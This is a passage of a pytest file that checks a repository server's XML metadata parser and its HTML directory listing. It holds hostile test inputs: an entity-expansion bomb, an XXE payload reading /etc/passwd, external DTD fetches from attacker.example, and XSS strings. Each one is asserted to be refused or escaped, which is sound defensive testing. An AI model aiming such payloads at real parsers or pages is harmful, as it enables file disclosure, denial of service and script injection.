 <!ENTITY lol2 "&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;">
 <!ENTITY lol3 "&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;">
]>
<metadata><groupId>&lol3;</groupId></metadata>
"""

XXE = b"""<?xml version="1.0"?>
<!DOCTYPE metadata [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>
<metadata><groupId>&xxe;</groupId></metadata>
"""

EXTERNAL_DTD = b"""<?xml version="1.0"?>
<!DOCTYPE metadata SYSTEM "http://attacker.example/evil.dtd">
<metadata/>
"""

PARAMETER_ENTITY = b"""<?xml version="1.0"?>
<!DOCTYPE metadata [<!ENTITY % remote SYSTEM "http://attacker.example/x.dtd"> %remote;]>
<metadata/>
"""


@pytest.mark.parametrize(
    ("data", "message"),
    [
        (BILLION_LAUGHS, "DOCTYPE"),
        (XXE, "DOCTYPE"),
        (EXTERNAL_DTD, "DOCTYPE"),
        (PARAMETER_ENTITY, "DOCTYPE"),
        (b"<metadata><groupId>&undefined;</groupId></metadata>", "not well-formed"),
        (b"", "not well-formed"),
        (b"not xml at all", "not well-formed"),
        (b"<metadata><groupId>x</metadata>", "not well-formed"),
        (b"<metadata/><metadata/>", "not well-formed"),
        (b"<metadata>\xff</metadata>", "not well-formed"),
        (b"<project><groupId>x</groupId></project>", "<metadata> root element, not <project>"),
        (b"<x:metadata xmlns:x='urn:other'/>", None),
        (b"<metadata><y:groupId/></metadata>", "not well-formed"),
        (b"<a>" * 40 + b"</a>" * 40, "more than 32 deep"),
        (
            b"<metadata><versioning><snapshot><buildNumber>seven</buildNumber>"
            b"</snapshot></versioning></metadata>",
            "buildNumber 'seven'",
        ),
        (
            b"<metadata><versioning><snapshot><buildNumber>99999999999999999999</buildNumber>"
            b"</snapshot></versioning></metadata>",
            "not a whole number",
        ),
        (
            b"<metadata><plugins><plugin><prefix>x</prefix></plugin></plugins></metadata>",
            "<prefix> and an <artifactId>",
        ),
        (
            b"<metadata><versioning><snapshotVersions><snapshotVersion><value>v</value>"
            b"</snapshotVersion></snapshotVersions></versioning></metadata>",
            "<extension> and a <value>",
        ),
    ],
)
def test_parse_metadata_refuses(data: bytes, message: str | None) -> None:
    if message is None:
        # A namespaced root is still named metadata; only its local name counts.
        assert parse_metadata(data).versions == ()
        return
    with pytest.raises(RequestInvalid) as caught:
        parse_metadata(data)
    assert message in str(caught.value)


def test_parse_metadata_size_limit() -> None:
    padding = b" " * (MAX_METADATA - len(b"<metadata></metadata>"))
    assert parse_metadata(b"<metadata>" + padding + b"</metadata>").versions == ()
    with pytest.raises(RequestInvalid, match="at most 1048576"):
        parse_metadata(b"<metadata>" + padding + b" </metadata>")


# --- listing_html ---------------------------------------------------------------------


class _Page(HTMLParser):
    """What a browser shows: the title, the table's cells and the links."""

    def __init__(self) -> None:
        super().__init__(convert_charrefs=True)
        self.title = ""
        self.links: list[tuple[str, str]] = []
        self.rows: list[list[str]] = []
        self.tags: list[str] = []
        self._open: set[str] = set()

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.tags.append(tag)
        if tag == "tr":
            self.rows.append([])
        elif tag in ("td", "th"):
            self.rows[-1].append("")
        elif tag == "a":
            self.links.append((dict(attrs)["href"] or "", ""))
        self._open.add(tag)

    def handle_endtag(self, tag: str) -> None:
        self._open.discard(tag)

    def handle_data(self, data: str) -> None:
        if "title" in self._open:
            self.title += data
        if self._open & {"td", "th"}:
            self.rows[-1][-1] += data
        if "a" in self._open:
            href, text = self.links[-1]
            self.links[-1] = (href, text + data)


def render(repository: str, path: str, entries: list[ListingEntry]) -> _Page:
    page = _Page()
    page.feed(listing_html(repository, path, entries))
    page.close()
    return page


def test_listing_of_a_version_directory() -> None:
    entries = [
        ListingEntry("lib-1.0.pom", False, 1234, WHEN),
        ListingEntry("lib-1.0.jar", False, 56789, WHEN),
        ListingEntry("extra", True, None, None),
    ]
    page = render("releases", "com/example/lib/1.0/", entries)
    assert page.title == "Index of /com/example/lib/1.0"
    assert page.rows == [
        ["Name", "Last Modified", "Size"],
        ["Parent Directory", "", ""],
        ["extra/", "", ""],
        ["lib-1.0.jar", "Fri Nov 27 12:00:00 UTC 2026", "56789"],
        ["lib-1.0.pom", "Fri Nov 27 12:00:00 UTC 2026", "1234"],
    ]
    assert page.links == [
        ("../", "Parent Directory"),
        ("extra/", "extra/"),
        ("lib-1.0.jar", "lib-1.0.jar"),
        ("lib-1.0.pom", "lib-1.0.pom"),
    ]


def test_listing_of_the_root_has_no_parent() -> None:
    page = render("releases", "", [ListingEntry("com", True, None, None)])
    assert page.title == "Index of /"
    assert page.links == [("com/", "com/")]


def test_listing_escapes_everything() -> None:
    hostile = '"><img src=x onerror=alert(1)>'
    text = listing_html(
        "<b>repo</b>",
        "a/<i>",
        [
            ListingEntry(hostile, False, 1, None),
            ListingEntry("javascript:alert(1)", False, 2, None),
            ListingEntry("a&b", True, None, None),
        ],
    )
    page = _Page()
    page.feed(text)
    page.close()
    # Nothing the caller passed became markup.
    page_tags = {"html", "head", "meta", "title", "body", "h1", "p", "table", "tr", "th", "td"}
    assert set(page.tags) == page_tags | {"a"}
    assert "img" not in page.tags and "b" not in page.tags and "i" not in page.tags
    hrefs = {name: href for href, name in page.links}
    assert hrefs[hostile] == "%22%3E%3Cimg%20src%3Dx%20onerror%3Dalert%281%29%3E"
    assert hrefs["javascript:alert(1)"] == "javascript%3Aalert%281%29"
    assert hrefs["a&b/"] == "a%26b/"
    assert page.title == "Index of /a/<i>"
    for href in hrefs.values():
        assert ":" not in href and not href.startswith("/")


def test_listing_times_are_utc() -> None:
    moment = datetime(2026, 1, 5, 3, 4, 5, tzinfo=timezone(timedelta(hours=-2)))
    page = render("r", "x", [ListingEntry("f", False, 0, moment)])
    assert page.rows[-1] == ["f", "Mon Jan 05 05:04:05 UTC 2026", "0"]


@pytest.mark.parametrize("name", ["", ".", "..", "a/b"])
def test_listing_refuses_impossible_names(name: str) -> None:
    with pytest.raises(RequestInvalid, match="cannot list"):
        listing_html("r", "x", [ListingEntry(name, False, 1, None)])
